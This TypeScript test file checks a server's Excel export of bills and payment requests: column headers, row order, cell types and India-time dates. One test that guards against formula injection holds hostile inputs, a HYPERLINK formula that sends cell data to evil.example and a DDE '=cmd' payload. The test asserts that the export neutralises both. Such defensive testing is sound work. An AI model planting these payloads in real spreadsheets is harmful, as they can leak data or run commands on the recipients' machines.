import type { LightMyRequestResponse } from 'fastify';
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { insert } from '@/server/db/rows';
import { spreadsheetFile } from '@/server/exports/spreadsheet';
import { startSignedIn } from './helpers';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const BILL_HEADERS = [
  'Bill ID',
  'Invoice Number',
  'Invoice Date',
  'Uploaded On',
  'User',
  'Firm',
  'Phone',
  'User Type',
  'Amount (INR)',
  'Status',
  'Points Awarded',
  'Cash Awarded (INR)',
  'Rejection Reason',
  'Dealer',
  'Products',
];
const PAYMENT_HEADERS = [
  'Payment ID',
  'Requested On',
  'User',
  'Firm',
  'Phone',
  'Amount (INR)',
  'Status',
  'Account Holder',
  'Account Number',
  'Bank',
  'IFSC',
  'Decided On',
];

type Cell = { t: string; v: string | number } | undefined;

/** The workbook of an export answer: its sheet names, and each row's cells (undefined when empty). */
function readExport(response: LightMyRequestResponse) {
  const workbook = XLSX.read(response.rawPayload, { type: 'buffer' });
  const sheet = workbook.Sheets[workbook.SheetNames[0]];
  const range = XLSX.utils.decode_range(sheet['!ref']!);
  const rows: Cell[][] = [];
  for (let row = range.s.r; row <= range.e.r; row += 1) {
    const cells: Cell[] = [];
    for (let column = range.s.c; column <= range.e.c; column += 1) {
      const cell = sheet[XLSX.utils.encode_cell({ r: row, c: column })];
      cells.push(cell && { t: cell.t, v: cell.v });
    }
    rows.push(cells);
  }
  return { sheetNames: workbook.SheetNames, rows };
}

const values = (cells: Cell[]) => cells.map(cell => cell?.v ?? null);
const types = (cells: Cell[]) => cells.map(cell => cell?.t ?? null);

describe('GET bill/bill/export/', () => {
  it('answers every bill newest first as an .xlsx named with the date in India', async () => {
    const server = await startSignedIn();
    const response = await server.api('GET', 'bill/bill/export/');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(XLSX_TYPE);
    expect(response.headers['content-disposition']).toBe('attachment; filename="bill-requests-2025-06-15.xlsx"');
    const { sheetNames, rows } = readExport(response);
    expect(sheetNames).toEqual(['Bills']);
    expect(values(rows[0])).toEqual(BILL_HEADERS);
    const bills = (await server.api('GET', 'bill/list/all-bills/')).json();
    expect(rows.slice(1).map(row => row[0]?.v)).toEqual(bills.map((bill: { id: number }) => bill.id));

    const approvedRow = rows.slice(1).find(row => row[9]?.v === 'Approved')!;
    const approved = bills.find((bill: { id: number }) => bill.id === approvedRow[0]?.v);
    expect(types(approvedRow)).toEqual(['n', 's', 's', 's', 's', 's', 's', 's', 'n', 's', 'n', 'n', null, 's', 's']);
    expect(values(approvedRow).slice(8, 13)).toEqual([
      approved.amount,
      'Approved',
      approved.points_earned,
      approved.cash_earned,
      null,
    ]);
    const rejectedRow = rows.slice(1).find(row => row[9]?.v === 'Rejected')!;
    expect(values(rejectedRow).slice(9, 13)).toEqual([
      'Rejected',
      null,
      null,
      bills.find((bill: { id: number }) => bill.id === rejectedRow[0]?.v).reason,
    ]);
  });

  it('writes a bill row as text dates in India, numbers as numbers and the products listed', async () => {
    const server = await startSignedIn();
    const user = server
      .db()
      .prepare("SELECT * FROM users WHERE user_type = 'architect' AND deleted_at IS NULL")
      .get() as {
      id: number;
      first_name: string;
      last_name: string;
      firm_name: string;
      phone: string;
    };
    let billId = 0;
    server.write(db => {
      billId = insert(db, 'bills', {
        user_id: user.id,
        invoice_number: 'INV/2025/00042',
        invoice_date: '2025-03-09',
        amount_paise: 1234567,
        dealer: 'Shree Traders',
        status: 'pending',
        date_added: '2025-06-14T18:45:00.000Z',
      });
      insert(db, 'bill_products', { bill_id: billId, product_name: 'Aqua Tap', quantity: 2 });
      insert(db, 'bill_products', { bill_id: billId, product_name: 'Rain Shower', quantity: 1 });
    });
    await server.api('PATCH', `bill/approve/${billId}/`, { points_earned: 123, cash_earned: 123.45 });
    const { rows } = readExport(await server.api('GET', 'bill/bill/export/'));
    const row = rows.find(cells => cells[0]?.v === billId)!;
    expect(values(row)).toEqual([
      billId,
      'INV/2025/00042',
      '09-03-2025',
      '15-06-2025, 12:15 AM',
      `${user.first_name} ${user.last_name}`,
      user.firm_name,
      user.phone,
      'Architect',
      12345.67,
      'Approved',
      123,
      123.45,
      null,
      'Shree Traders',
      'Aqua Tap × 2; Rain Shower × 1',
    ]);
  });

  it('names the file with the date in India, a day ahead of UTC late in the evening', async () => {
    const server = await startSignedIn({ config: { now: () => new Date('2025-06-15T19:00:00.000Z') } });
    const response = await server.api('GET', 'bill/bill/export/');
    expect(response.headers['content-disposition']).toBe('attachment; filename="bill-requests-2025-06-16.xlsx"');
  });

  it('keeps text that looks like a formula as text', async () => {
    const server = await startSignedIn();
    const userId = server.db().prepare("SELECT id FROM users WHERE status = 'approved' AND is_admin = 0").pluck().get();
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    let billId = 0;
    server.write(db => {
      db.prepare("UPDATE users SET first_name = ?, last_name = '', firm_name = ?, phone = ? WHERE id = ?").run(
        name,
        '-2+3',
        '+919876543210',
        userId,
      );
      billId = insert(db, 'bills', {
        user_id: userId as number,
        invoice_number: '+1',
        invoice_date: '2025-06-01',
        amount_paise: 100,
        dealer: '@SUM(A1:A9)',
        status: 'pending',
        date_added: '2025-06-15T09:00:00.000Z',
      });
      insert(db, 'bill_products', { bill_id: billId, product_name: '=1+1', quantity: 1 });
    });
    await server.api('PATCH', `bill/reject/${billId}/`, { reason: '\t=cmd|" /C calc"!A0\r' });
    const { rows } = readExport(await server.api('GET', 'bill/bill/export/'));
    const row = rows.find(cells => cells[0]?.v === billId)!;
    const neutral = (text: string) => ({ t: 's', v: `'${text}` });
    expect([row[1], row[4], row[5], row[6], row[12], row[13], row[14]]).toEqual([
      neutral('+1'),
      neutral(name),
      neutral('-2+3'),
      neutral('+919876543210'),
      neutral('=cmd|" /C calc"!A0'),
      neutral('@SUM(A1:A9)'),
      neutral('=1+1 × 1'),
    ]);
    expect(row[8]).toEqual({ t: 'n', v: 1 });
    expect(rows.flat().filter(cell => cell && 'f' in cell)).toEqual([]);
  });
});

describe('GET payment/payment/export/', () => {
  it('answers the payment history newest first as an .xlsx, account numbers as text', async () => {
    const server = await startSignedIn();
    const user = server.db().prepare("SELECT * FROM users WHERE status = 'approved' AND is_admin = 0").get() as {
      id: number;
      first_name: string;
      last_name: string;
      firm_name: string;
      phone: string;
    };
    let paymentId = 0;
    server.write(db => {
      paymentId = insert(db, 'payment_requests', {
        user_id: user.id,
        amount_paise: 250050,
        status: 'rejected',
        account_holders_name: 'Asha Rao',
        account_number: '000123456789',
        bank_name: 'State Bank of India',
        ifsc_code: 'SBIN0001234',
        requested_at: '2025-06-15T09:30:00.000Z',
        decided_at: '2025-06-15T09:45:00.000Z',
      });
      insert(db, 'payment_requests', {
        user_id: user.id,
        amount_paise: 100,
        account_holders_name: 'Asha Rao',
        account_number: '1',
        bank_name: 'State Bank of India',
        ifsc_code: 'SBIN0001234',
        requested_at: '2025-06-15T09:50:00.000Z',
      });
    });
    const response = await server.api('GET', 'payment/payment/export/');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(XLSX_TYPE);
    expect(response.headers['content-disposition']).toBe('attachment; filename="payment-history-2025-06-15.xlsx"');
    const { sheetNames, rows } = readExport(response);
    expect(sheetNames).toEqual(['Payments']);
    expect(values(rows[0])).toEqual(PAYMENT_HEADERS);
    const history = (await server.api('GET', 'loyalty/payment/list/')).json() as { id: number }[];
    expect(history[0].id).toBe(paymentId);
    expect(rows.slice(1).map(row => row[0]?.v)).toEqual(history.map(payment => payment.id));
    expect(values(rows[1])).toEqual([
      paymentId,
      '15-06-2025, 03:00 PM',
      `${user.first_name} ${user.last_name}`,
      user.firm_name,
      user.phone,
      2500.5,
      'Rejected',
      'Asha Rao',
      '000123456789',
      'State Bank of India',
      'SBIN0001234',
      '15-06-2025, 03:15 PM',
    ]);
    expect(types(rows[1])).toEqual(['n', 's', 's', 's', 's', 'n', 's', 's', 's', 's', 's', 's']);
    expect(rows.slice(1).every(row => row[8]?.t === 's')).toBe(true);
  });
});

describe('spreadsheetFile', () => {
  it('neutralises every formula start and keeps numbers, negative ones too, as numbers', () => {
    const texts = ['=1+1', '+1', '-1', '@A1', '\tx', '\rx', 'plain', ' =1', 'a=b'];
    const file = spreadsheetFile({
      name: 'test',
      sheetName: 'Test',
      rows: [...texts, -5, 0, null],
      columns: [{ header: 'Value', value: (row: string | number | null) => row }],
    });
    const sheet = XLSX.read(file, { type: 'buffer' }).Sheets.Test;
    const cells = [...texts, -5, 0].map((_, index) => sheet[`A${index + 2}`]);
    expect(cells.map(cell => [cell.t, cell.v])).toEqual([
      ['s', "'=1+1"],
      ['s', "'+1"],
      ['s', "'-1"],
      ['s', "'@A1"],
      ['s', "'\tx"],
      ['s', "'\rx"],
      ['s', 'plain'],
      ['s', ' =1'],
      ['s', 'a=b'],
      ['n', -5],
      ['n', 0],
    ]);
    expect(sheet[`A${texts.length + 4}`]).toBeUndefined();
  });
});
